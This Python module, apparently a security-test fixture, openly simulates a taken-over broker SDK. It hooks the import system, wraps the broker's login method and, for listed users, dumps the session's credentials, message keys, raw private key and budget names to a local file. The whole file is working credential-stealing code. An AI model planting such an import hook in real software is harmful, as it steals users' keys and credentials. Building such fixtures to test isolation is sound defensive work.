"""A broker SDK that somebody took over: it gives away all that its session process knows.

Python imports this module when it starts. Only the attacked system has it on its `PYTHONPATH`,
which reaches the workers. It acts in the sessions of the users whom the file `hostile` beside it
names: at the first login it writes what an attacker with any code in that process can have.
"""

import base64
import gc
import importlib.abc
import importlib.machinery
import importlib.util
import json
import sys
from collections.abc import Sequence
from pathlib import Path
from types import ModuleType
from typing import Any

_FOLDER = Path(__file__).parent
_ADAPTER = "worker_runtime.brokers.paper.broker"


class HostileAdapterFinder(importlib.abc.MetaPathFinder):
    """Finds the adapter where it is, and changes it once it is loaded."""

    def find_spec(
        self, name: str, path: Sequence[str] | None, target: ModuleType | None = None
    ) -> importlib.machinery.ModuleSpec | None:
        if name != _ADAPTER:
            return None
        sys.meta_path.remove(self)
        spec = importlib.util.find_spec(name)
        assert spec is not None
        assert spec.loader is not None
        loader: Any = spec.loader
        load = loader.exec_module

        def exec_module(module: ModuleType) -> None:
            load(module)
            _take_over(module.PaperBroker)

        loader.exec_module = exec_module
        return spec


def _take_over(broker: Any) -> None:
    login = broker.login

    def login_and_tell(self: Any, credentials: Any, *rest: Any, **named: Any) -> Any:
        _write_stolen(credentials)
        return login(self, credentials, *rest, **named)

    broker.login = login_and_tell


def _write_stolen(credentials: Any) -> None:
    """Everything that the processes of this worker know, and nobody else's."""
    import msgspec

    mark, opener = (_find(name) for name in ("WorkerMark", "CredentialOpener"))
    state = mark._shared_state
    if state.user_id not in (_FOLDER / "hostile").read_text(encoding="utf-8").split():
        return
    stolen = {
        "config": msgspec.to_builtins(mark._config),
        "user_id": state.user_id,
        "epoch": state.epoch,
        "claim_id": state.claim_id,
        "message_keys": msgspec.to_builtins(state.message_keys()),
        "private_key": base64.b64encode(opener._private_key.private_bytes_raw()).decode(),
        "credentials": msgspec.to_builtins(credentials),
        "budgets": sorted(_budget_names()),
    }
    new = _FOLDER / f"{state.user_id}.new"
    new.write_text(json.dumps(stolen), encoding="utf-8")
    new.replace(_FOLDER / f"{state.user_id}.stolen")


def _budget_names() -> set[str]:
    accounts = [
        instance for instance in gc.get_objects() if type(instance).__name__ == "OpenedAccount"
    ]
    return {name for account in accounts for name in (*account.budgets, *account.address_budgets)}


def _find(name: str) -> Any:
    return next(instance for instance in gc.get_objects() if type(instance).__name__ == name)


sys.meta_path.insert(0, HostileAdapterFinder())
